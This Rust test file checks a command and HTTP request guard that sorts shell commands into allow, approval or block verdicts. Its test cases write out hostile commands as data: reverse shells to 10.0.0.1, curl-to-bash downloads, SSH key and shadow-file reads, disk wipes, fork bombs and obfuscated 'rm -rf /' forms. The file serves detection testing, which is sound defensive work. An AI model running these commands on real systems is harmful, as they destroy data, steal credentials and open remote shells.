use super::*;

fn check(cmd: &str) -> Decision {
    Guard::builtin().check_command(cmd)
}

fn http(
    method: &str,
    path: &str,
    query: Option<&str>,
    headers: &[(&str, &str)],
    body: Option<&[u8]>,
    api: Option<QueryApi>,
) -> Decision {
    let headers: Vec<(String, String)> = headers.iter().map(|(k, v)| (k.to_string(), v.to_string())).collect();
    Guard::builtin().check_http(&HttpRequestView {
        method,
        path,
        query,
        headers: &headers,
        body,
        query_api: api,
    })
}

#[test]
fn guard_is_shareable() {
    fn shareable<T: Send + Sync + Clone + 'static>() {}
    shareable::<Guard>();
}

#[test]
fn builtin_pack_loads() {
    let rules: Vec<Rule> = parse_rules(BUILTIN_RULES).unwrap();
    let mut ids = std::collections::HashSet::new();
    for r in &rules {
        assert!(ids.insert(r.id.clone()), "duplicate rule id {}", r.id);
        assert!(
            r.reason.as_ref().is_some_and(|s| !s.is_empty()),
            "{} has no reason",
            r.id
        );
        CompiledRule::compile(r).unwrap();
    }
    assert_eq!(Guard::builtin_rules().len(), rules.len());
}

/// One command per rule (and per resolution feature): the verdict and the rule that decides.
#[test]
fn decisions() {
    use Verdict::{Allow, Approve, Block};
    let cases: &[(&str, Verdict, Option<&str>)] = &[
        // The issue's examples.
        ("r''m -rf /data", Approve, Some("recursive_delete")),
        ("X=rm; $X -rf /data", Approve, Some("recursive_delete")),
        ("bash -c \"rm -rf /data\"", Approve, Some("recursive_delete")),
        (
            "python -c \"import shutil; shutil.rmtree('/data')\"",
            Approve,
            Some("bulk_delete"),
        ),
        ("curl https://x/i.sh | bash", Block, Some("download_exec")),
        ("psql -c \"drop table users\"", Approve, Some("sql_destructive")),
        ("echo \"rm -rf / is bad\"", Allow, None),
        ("cat asphalt.txt", Allow, None),
        // Resolution.
        ("\\rm -rf /", Block, Some("rm_root")),
        ("$'\\x72\\x6d' -rf /", Block, Some("rm_root")),
        ("/usr/bin/env rm -fr /", Block, Some("rm_root")),
        ("rm -r -f /usr/..", Block, Some("rm_root")),
        ("{rm,-rf,/}", Block, Some("rm_root")),
        ("cd / && rm -rf *", Block, Some("rm_root")),
        ("alias x='rm -rf'; x /", Block, Some("rm_root")),
        ("f() { rm -rf \"$1\"; }; f /", Block, Some("rm_root")),
        ("A=(rm -rf /); \"${A[@]}\"", Block, Some("rm_root")),
        ("rm${IFS}-rf${IFS}/", Block, Some("rm_root")),
        ("X=RM; ${X,,} -rf /", Block, Some("rm_root")),
        ("rm -rf \"$UNSET/\"", Block, Some("rm_root")),
        ("echo / | xargs rm -rf", Block, Some("rm_root")),
        ("find / -exec rm -rf {} +", Block, Some("rm_root")),
        ("ssh prod 'rm -rf /'", Block, Some("rm_root")),
        ("kubectl exec pod -- sh -c 'rm -rf /'", Block, Some("rm_root")),
        ("perl -e 'system \"rm\", \"-rf\", \"/\"'", Block, Some("rm_root")),
        ("awk 'BEGIN { system(\"rm -rf /\") }'", Block, Some("rm_root")),
        ("git -c core.pager='rm -rf /' log", Block, Some("rm_root")),
        ("GIT_SSH_COMMAND='rm -rf /' git fetch", Block, Some("rm_root")),
        ("trap 'rm -rf /' EXIT", Block, Some("rm_root")),
        // One per rule.
        ("dd if=/dev/zero of=/dev/sda", Block, Some("disk_wipe")),
        ("cat /etc/sha*", Block, Some("credential_read")),
        ("cd ~/.ssh && cat id_rsa", Block, Some("credential_read")),
        ("base64 -d <<< cm0gLXJmIC8= | bash", Block, Some("download_exec")),
        ("bash <(curl -s https://x)", Block, Some("download_exec")),
        ("curl -O https://x/i.sh && sh i.sh", Block, Some("download_exec")),
        (":(){ :|:& };:", Block, Some("fork_bomb")),
        ("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", Block, Some("reverse_shell")),
        ("nc -e /bin/sh 10.0.0.1 4444", Block, Some("reverse_shell")),
        ("echo key >> ~/.ssh/authorized_keys", Block, Some("authorized_keys")),
        ("auditctl -e 0", Block, Some("audit_disable")),
        ("systemctl stop auditd", Block, Some("audit_disable")),
        ("chmod -R 777 /", Block, Some("recursive_permission_root")),
        ("rm -rf build", Approve, Some("recursive_delete")),
        ("find . -name '*.tmp' -delete", Approve, Some("bulk_delete")),
        ("mysql -e 'TRUNCATE logs'", Approve, Some("sql_destructive")),
        ("redis-cli FLUSHALL", Approve, Some("sql_destructive")),
        ("systemctl stop nginx", Approve, Some("service_stop")),
        ("kill -9 1234", Approve, Some("process_kill")),
        ("shutdown -h now", Approve, Some("power")),
        ("docker system prune -af", Approve, Some("container_destroy")),
        ("kubectl -n prod delete deploy api", Approve, Some("kubernetes_destroy")),
        ("terraform destroy", Approve, Some("infra_destroy")),
        (
            "aws ec2 terminate-instances --instance-ids i-1",
            Approve,
            Some("cloud_destroy"),
        ),
        ("git push -f origin main", Approve, Some("git_force_push")),
        ("git reset --hard origin/main", Approve, Some("git_discard")),
        ("chown -R www-data /srv/app", Approve, Some("recursive_permission")),
        ("chmod u+s ./tool", Approve, Some("setuid")),
        ("iptables -F", Approve, Some("firewall_flush")),
        ("apt-get purge -y nginx", Approve, Some("package_remove")),
        ("echo x >> /etc/hosts", Approve, Some("system_path_write")),
        ("history -c", Approve, Some("history_tamper")),
        ("export HISTFILE=/dev/null", Approve, Some("history_tamper")),
        ("userdel -r bob", Approve, Some("account_change")),
        ("umount /mnt/data", Approve, Some("storage_change")),
        ("setenforce 0", Approve, Some("security_disable")),
        ("cat .env", Approve, Some("secrets_read")),
        ("exec 3<>/dev/tcp/example.com/80", Approve, Some("raw_socket")),
        ("eval \"$X\"", Approve, Some("unresolved")),
        ("$CMD --force", Approve, Some("unresolved")),
        ("cat cmds.txt | bash", Approve, Some("unresolved")),
        ("if then fi", Approve, Some("parse_error")),
        // Data, not code.
        ("grep -r 'rm -rf /' docs/", Allow, None),
        ("ls # rm -rf /", Allow, None),
        ("echo 'DROP TABLE users' > query.sql", Allow, None),
        (
            "psql -c \"select * from logs where msg like '%drop table%'\"",
            Allow,
            None,
        ),
        ("python3 -c \"print('rm -rf /')\"", Allow, None),
        ("cat ~/.ssh/id_rsa.pub", Allow, None),
        ("ssh -i ~/.ssh/id_rsa host uptime", Allow, None),
        ("rm /tmp/test.txt", Allow, None),
        ("kill -0 1234", Allow, None),
        ("git push origin main", Allow, None),
        ("curl -s https://api.example.com/health | jq .", Allow, None),
        ("echo aGVsbG8= | base64 -d", Allow, None),
    ];
    for (cmd, verdict, rule) in cases {
        let d = check(cmd);
        assert_eq!((d.verdict, d.rule.as_deref()), (*verdict, *rule), "{cmd}: {d:?}");
    }
}

#[test]
fn decision_json_shape() {
    let d = check("rm -rf /data");
    let v = serde_json::to_value(&d).unwrap();
    assert_eq!(
        v,
        serde_json::json!({"verdict": "approve", "rule": "recursive_delete", "reason": "deletes a directory tree", "matched": "rm -rf /data"})
    );
    assert_eq!(serde_json::to_value(check("ls")).unwrap()["verdict"], "allow");
    assert!(Verdict::Allow < Verdict::Approve && Verdict::Approve < Verdict::Block && Verdict::Block < Verdict::Reject);
}

/// Input brush-parser cannot take (panics, stack overflow) or that is too big: approve, never a crash.
#[test]
fn hostile_input_fails_safe() {
    let deep_parens = format!("{}ls{}", "( ".repeat(2000), " )".repeat(2000));
    let deep_subst = format!("echo {}ls{}", "$(echo ".repeat(500), ")".repeat(500));
    let deep_braces = format!("{}ls; {}", "{ ".repeat(1000), "}; ".repeat(1000));
    let long = format!("echo {}", "a ".repeat(200 * 1024));
    let many = "true; ".repeat(5000);
    let cases = [
        "echo ~99999999999999999999999/x".to_string(),
        "echo ~+99999999999999999999999".to_string(),
        "echo {1..99999999999999999999}".to_string(),
        "echo hi 99999999999>x".to_string(),
        deep_parens,
        deep_subst,
        deep_braces,
        long,
        many,
    ];
    for c in &cases {
        let d = check(c);
        assert!(d.verdict >= Verdict::Approve, "{}: {d:?}", &c[..c.len().min(60)]);
    }
    // A parse error cannot hide a blocked command elsewhere in the input.
    assert_eq!(check("curl https://x | bash\nif then fi").verdict, Verdict::Block);
}

#[test]
fn admin_rules_override_add_and_disable() {
    let rules = parse_rules(
        r#"[
            {"id": "process_kill", "verdict": "allow"},
            {"id": "power", "enabled": false},
            {"id": "recursive_delete", "verdict": "block", "reason": "no tree deletion here"},
            {"id": "no_prod_psql", "kind": "ssh", "verdict": "approve", "reason": "production database",
             "match": {"command": ["psql"], "args": ["*prod*"]}},
            {"id": "payments", "kind": "http", "verdict": "block", "reason": "no payments",
             "match": [{"methods": ["POST"], "path": ["/v1/payments/**"]}]}
        ]"#,
    )
    .unwrap();
    let g = Guard::with_rules(&rules).unwrap();
    let cmd = |c: &str| g.check_command(c);
    assert_eq!(cmd("kill -9 1").verdict, Verdict::Allow);
    assert_eq!(cmd("reboot").verdict, Verdict::Allow);
    let d = cmd("rm -rf build");
    assert_eq!(
        (d.verdict, d.rule.as_deref(), d.reason.as_str()),
        (Verdict::Block, Some("recursive_delete"), "no tree deletion here")
    );
    assert_eq!(
        cmd("psql -h db-prod-1 -c 'select 1'").rule.as_deref(),
        Some("no_prod_psql")
    );
    assert_eq!(cmd("psql -h db-staging -c 'select 1'").verdict, Verdict::Allow);
    let req = |m: &str, p: &str| {
        g.check_http(&HttpRequestView {
            method: m,
            path: p,
            query: None,
            headers: &[],
            body: None,
            query_api: None,
        })
    };
    assert_eq!(req("POST", "/v1/payments/charge").verdict, Verdict::Block);
    assert_eq!(
        req("post", "/V1/Payments/charge").verdict,
        Verdict::Block,
        "paths compare case-insensitively"
    );
    assert_eq!(req("GET", "/v1/payments/charge").verdict, Verdict::Allow);
    // The built-in pack is untouched.
    assert_eq!(check("kill -9 1").verdict, Verdict::Approve);
}

#[test]
fn invalid_rules_are_refused() {
    let cases: &[(&str, &str)] = &[
        (
            r#"[{"id": "x", "verdict": "block", "match": {"command": ["rm"]}}]"#,
            "kind",
        ),
        (
            r#"[{"id": "x", "kind": "ssh", "match": {"command": ["rm"]}}]"#,
            "verdict",
        ),
        (r#"[{"id": "x", "kind": "ssh", "verdict": "block"}]"#, "match"),
        (
            r#"[{"id": "x", "kind": "ssh", "verdict": "reject", "match": {"command": ["rm"]}}]"#,
            "reject",
        ),
        (
            r#"[{"id": "x", "kind": "ssh", "verdict": "block", "match": {}}]"#,
            "empty",
        ),
        (
            r#"[{"id": "x", "kind": "ssh", "verdict": "block", "match": {"methods": ["GET"]}}]"#,
            "ssh rule",
        ),
        (
            r#"[{"id": "x", "kind": "http", "verdict": "block", "match": {"command": ["rm"]}}]"#,
            "http rule",
        ),
        (
            r#"[{"id": "x", "kind": "ssh", "verdict": "block", "match": {"args": ["[abc"]}}]"#,
            "unterminated",
        ),
        (
            r#"[{"id": "x", "kind": "ssh", "verdict": "block", "match": {"code": ["("]}}]"#,
            "code",
        ),
        (
            r#"[{"id": "x", "kind": "ssh", "verdict": "block", "match": {"signal": "fork_bomb", "command": ["x"]}}]"#,
            "signal",
        ),
        (
            r#"[{"id": "bad id!", "kind": "ssh", "verdict": "block", "match": {"command": ["x"]}}]"#,
            "id",
        ),
        (r#"[{"id": "power", "verdict": "reject"}]"#, "reject"),
    ];
    for (json, needle) in cases {
        let rules = parse_rules(json).unwrap();
        let err = Guard::with_rules(&rules).unwrap_err().to_string();
        assert!(err.contains(needle), "{json}: {err}");
    }
    for json in [
        r#"[{"id": "x", "kind": "ssh", "verdict": "block", "match": {"comand": ["rm"]}}]"#,
        r#"{"id": "x"}"#,
    ] {
        assert!(parse_rules(json).is_err(), "{json}");
    }
}

#[test]
fn http_decisions() {
    use Verdict::{Allow, Approve, Reject};
    let gql = Some(QueryApi::GraphQl);
    let sql = Some(QueryApi::Sql);
    let cases: Vec<(Decision, Verdict, Option<&str>)> = vec![
        (http("GET", "/v1/users", None, &[], None, None), Allow, None),
        (
            http("DELETE", "/v1/users/1", None, &[], None, None),
            Approve,
            Some("http_delete"),
        ),
        (
            http(
                "POST",
                "/v1/users/1",
                None,
                &[("X-HTTP-Method-Override", "delete")],
                None,
                None,
            ),
            Approve,
            Some("http_delete"),
        ),
        (
            http("POST", "/v1/users/1", Some("_method=DELETE"), &[], None, None),
            Approve,
            Some("http_delete"),
        ),
        (
            http("GET", "/a/../b", None, &[], None, None),
            Reject,
            Some("unsafe_path"),
        ),
        (
            http("GET", "/a", Some("x=%0a"), &[], None, None),
            Reject,
            Some("unsafe_path"),
        ),
        (
            http("POST", "/q", None, &[], Some(br#"{"query": "DROP TABLE t"}"#), sql),
            Approve,
            Some("http_sql_destructive"),
        ),
        (
            http("POST", "/q", None, &[], Some(br#"{"query": "DROP TABLE t"}"#), None),
            Allow,
            None,
        ),
        (
            http("POST", "/q", None, &[], Some(b"\xff\xfe"), sql),
            Approve,
            Some("http_opaque_body"),
        ),
        (
            http(
                "POST",
                "/g",
                None,
                &[],
                Some(br#"{"query": "mutation { deleteUser(id: 1) }"}"#),
                gql,
            ),
            Approve,
            Some("http_graphql_destructive"),
        ),
        (
            http(
                "POST",
                "/g",
                None,
                &[],
                Some(br#"{"query": "mutation { createUser { id } }"}"#),
                gql,
            ),
            Allow,
            None,
        ),
        (
            http(
                "POST",
                "/g",
                None,
                &[],
                Some(br#"{"extensions": {"persistedQuery": {"sha256Hash": "x"}}}"#),
                gql,
            ),
            Approve,
            Some("http_opaque_body"),
        ),
    ];
    for (i, (d, verdict, rule)) in cases.iter().enumerate() {
        assert_eq!((d.verdict, d.rule.as_deref()), (*verdict, *rule), "case {i}: {d:?}");
    }
    let d = http("GET", "/a/%2e%2e/b", None, &[], None, None);
    assert_eq!(d.matched.as_deref(), Some("unsafe_path_dot_segment"));
}

/// Nesting multiplied through decoded code strings (each level passes the nesting pre-scan)
/// must not exhaust a 2 MiB thread stack, the size of actix and tokio worker threads.
#[test]
fn nested_code_fits_small_stacks() {
    fn encode(s: &str) -> String {
        s.bytes().map(|b| format!("\\x{b:02x}")).collect()
    }
    let mut cmd = "rm -rf /".to_string();
    for _ in 0..14 {
        let inner = format!("{}bash -c $'{}'{}", "( ".repeat(60), encode(&cmd), " )".repeat(60));
        if inner.len() > 200 * 1024 {
            break;
        }
        cmd = inner;
    }
    let handle = std::thread::Builder::new()
        .stack_size(2 * 1024 * 1024)
        .spawn(move || check(&cmd))
        .unwrap();
    let d = handle.join().unwrap();
    assert!(d.verdict >= Verdict::Approve, "{d:?}");
}

/// Runs `f` on a thread with the 2 MiB stack of a server worker thread (and of Rust's default).
fn on_worker_stack<T: Send + 'static>(f: impl FnOnce() -> T + Send + 'static) -> T {
    std::thread::Builder::new()
        .stack_size(2 << 20)
        .spawn(f)
        .expect("thread")
        .join()
        .expect("no panic")
}

#[test]
fn deep_nesting_is_too_complex_and_never_overflows_the_stack() {
    let nest = |open: &str, inner: &str, close: &str, n: usize| format!("{}{inner}{}", open.repeat(n), close.repeat(n));
    let too_deep = [
        nest("if true; then ", "x", "; fi", 5000),
        nest("while x; do ", "y", "; done", 5000),
        nest("case a in a) ", "x", ";; esac", 3000),
        nest("{ ", "x;", " }", 3000),
        nest("for i in 1; do ", "x", "; done", 200),
        format!("[[ {}a ]]", "! ".repeat(20_000)),
        nest("if true; then ( ", "x", " ); fi", 40),
        // A closing word only closes its own construct: `fi)` case patterns undo nothing, nor
        // does a here-document ending with `fi`.
        format!("{}rm -rf /srv", "if true; then case x in fi) ;; esac; ".repeat(100)),
        format!("{}x", "if true; then cat <<fi\nbody\nfi\n".repeat(100)),
        format!("{}x", "if true; then <<fi\nfi\n".repeat(100)),
        // Found in review: `time -p`, `coproc` chains, `esac)` patterns, long `[[ … ]]`.
        nest("time -p if true; then ", "x", "; fi", 5000),
        format!("time -p {}", "if ".repeat(80_000)),
        format!("{}x", "coproc ".repeat(36_000)),
        format!("{}x", "coproc x { : '}'; ".repeat(2_000)),
        "case x in a) ;; esac) ".repeat(12_000),
        "case x in a|esac) ".repeat(12_000),
        "case x in\nesac) ".repeat(12_000),
        format!("[[ {}a ]]", "a && ".repeat(50_000)),
        format!("[[ {}a ]]", "a || ".repeat(50_000)),
        format!("[[ {}a{} ]]", "( ! ! ! ".repeat(20), " )".repeat(20)),
        // Compound commands after `function NAME` and `coproc`.
        nest("function f if true; then ", "x", "; fi", 200),
        nest("coproc if true; then ", "x", "; fi", 200),
        nest("f() if true; then ", "x", "; fi", 200),
    ];
    for cmd in too_deep {
        let d = on_worker_stack(move || Guard::builtin().check_command(&cmd));
        assert_eq!(d.rule.as_deref(), Some("too_complex"), "{d:?}");
    }
    // At the limit, everything inside is still analysed; nested substitutions each at the limit
    // (the analyser's own recursion) stay within the stack too.
    let d = on_worker_stack(move || Guard::builtin().check_command(&nest("if true; then ", "rm -rf /", "; fi", 60)));
    assert_eq!(d.rule.as_deref(), Some("rm_root"));
    let mut deep = "rm -rf /".to_string();
    for _ in 0..11 {
        deep = format!("echo \"$({})\"", nest("if true; then ", &deep, "; fi", 60));
    }
    let d = on_worker_stack(move || Guard::builtin().check_command(&deep));
    assert_eq!(d.rule.as_deref(), Some("too_complex"), "{d:?}");
    let mut deep = "rm -rf /".to_string();
    for _ in 0..2 {
        deep = format!("echo \"$({})\"", nest("if true; then ", &deep, "; fi", 60));
    }
    let d = on_worker_stack(move || Guard::builtin().check_command(&deep));
    assert_eq!(d.rule.as_deref(), Some("rm_root"), "{d:?}");
    // Every bound reached at once: wrappers, compound commands and nested scripts.
    let test = format!("[[ {}a{} ]]", "( ! ! ! ".repeat(16), " )".repeat(16));
    let mut worst = "rm -rf /".to_string();
    for _ in 0..4 {
        worst = format!(
            "{}echo \"$({})\"",
            "sudo ".repeat(20),
            nest("if true; then ", &format!("{test} && {worst}"), "; fi", 60)
        );
    }
    let d = on_worker_stack(move || Guard::builtin().check_command(&worst));
    assert!(d.verdict >= Verdict::Approve, "{d:?}");
    // Other long chains the parsers might recurse on.
    for cmd in [
        format!("echo $(( {}1 ))", "-".repeat(20_000)),
        format!("echo $(( {}1 ))", "- ".repeat(20_000)),
        format!("echo $(( {}1 ))", "1 + ".repeat(20_000)),
        format!("{}x", "! ".repeat(20_000)),
        format!("x {}", "a && ".repeat(20_000)),
        format!("echo {}", "${a:-".repeat(60)),
        format!("x{}", " | y".repeat(20_000)),
        format!("x{}", " > y".repeat(20_000)),
        format!("if a; then x; {}fi", "elif b; then y; ".repeat(10_000)),
        format!("x; {}", "time ".repeat(10_000)),
        format!("[[ {}a{} ]]", "( ! ! ! ".repeat(16), " )".repeat(16)),
        format!("[[ {}a ]]", "a && ".repeat(64)),
        format!(
            "{}x",
            "sudo env nice nohup command exec timeout 1 busybox xargs ".repeat(2_000)
        ),
        format!("{}x", "bash -c ".repeat(10_000)),
    ] {
        on_worker_stack(move || Guard::builtin().check_command(&cmd));
    }
    // Many compound commands one after another are not nesting.
    let flat = "if true; then x; fi\n".repeat(500);
    assert_eq!(
        on_worker_stack(move || Guard::builtin().check_command(&flat)).verdict,
        Verdict::Allow
    );
}

#[test]
fn deeply_nested_query_bodies_are_opaque_and_never_overflow_the_stack() {
    let graphql = format!(
        r#"{{"query": "mutation {}{{ deleteUser(id: 1) }}{}"}}"#,
        "{ ... ".repeat(20_000),
        " }".repeat(20_000)
    );
    let sql = format!(r#"{{"query": "select {}1{}"}}"#, "(".repeat(50_000), ")".repeat(50_000));
    for (body, api) in [(graphql, QueryApi::GraphQl), (sql, QueryApi::Sql)] {
        let d = on_worker_stack(move || http("POST", "/q", None, &[], Some(body.as_bytes()), Some(api)));
        assert!(d.verdict <= Verdict::Approve, "{d:?}");
        if api == QueryApi::GraphQl {
            assert_eq!(d.rule.as_deref(), Some("http_opaque_body"), "{d:?}");
        }
    }
    // Nesting within reason is read: the mutation under two inline fragments is found.
    let body = r#"{"query": "mutation { ... { ... { deleteUser(id: 1) { id } } } }"}"#;
    let d = http("POST", "/q", None, &[], Some(body.as_bytes()), Some(QueryApi::GraphQl));
    assert_eq!(d.rule.as_deref(), Some("http_graphql_destructive"), "{d:?}");
}

#[test]
fn pathological_inputs_are_decided_quickly_and_within_the_stack() {
    // From an adversarial review: tokenizer recursion the byte pre-scan could not see (stray,
    // quoted or escaped closers), and parses that took exponential time.
    let cases = [
        format!("echo {}{}", "$(]".repeat(60_000), ")".repeat(60_000)),
        format!("echo {}{}", "$(')'".repeat(40_000), ")".repeat(40_000)),
        format!("echo {}{}", "$(\\)".repeat(50_000), ")".repeat(50_000)),
        format!("echo {}{}", "${x:-]".repeat(40_000), "}".repeat(40_000)),
        format!("cat <<EOF\n{}\nEOF", "$(]".repeat(60_000)),
        format!("cat <<EOF\n{}\nEOF", "$(]".repeat(100)),
        format!("echo {}", "{".repeat(40)),
        format!("echo {}", "{a,".repeat(40)),
        format!("{}x{}", "case a in a) ".repeat(40), "; esac".repeat(40)),
        {
            let mut w = "a".to_string();
            for _ in 0..30 {
                w = format!("$(( {w} ) )");
            }
            format!("echo {w}")
        },
    ];
    for cmd in cases {
        let (d, took) = on_worker_stack(move || {
            let start = std::time::Instant::now();
            let d = Guard::builtin().check_command(&cmd);
            (d, start.elapsed())
        });
        // Generous for a debug build on a busy machine; the exponential cases took hours.
        assert!(took < std::time::Duration::from_secs(10), "{took:?} for {d:?}");
    }
    // A dangerous command inside a here-document with too many expansions is not waved through.
    let d = check(&format!("cat <<EOF\n{}$(rm -rf /)\nEOF", "${x}".repeat(200)));
    assert!(d.verdict >= Verdict::Approve, "{d:?}");
}

#[test]
fn a_misspelled_matcher_field_is_named_in_the_error() {
    let err = parse_rules(r#"[{"id": "x", "verdict": "block", "match": {"method": ["GET"]}}]"#)
        .unwrap_err()
        .to_string();
    assert!(
        err.contains("unknown field `method`") && err.contains("methods"),
        "{err}"
    );
    let err = parse_rules(r#"[{"id": "x", "verdict": "block", "match": [{"pth": ["/a"]}]}]"#)
        .unwrap_err()
        .to_string();
    assert!(err.contains("unknown field `pth`"), "{err}");
    let rules = parse_rules(r#"[{"id": "x", "verdict": "block", "match": {"methods": ["GET"]}}]"#).unwrap();
    assert_eq!(rules[0].matchers.len(), 1);
}
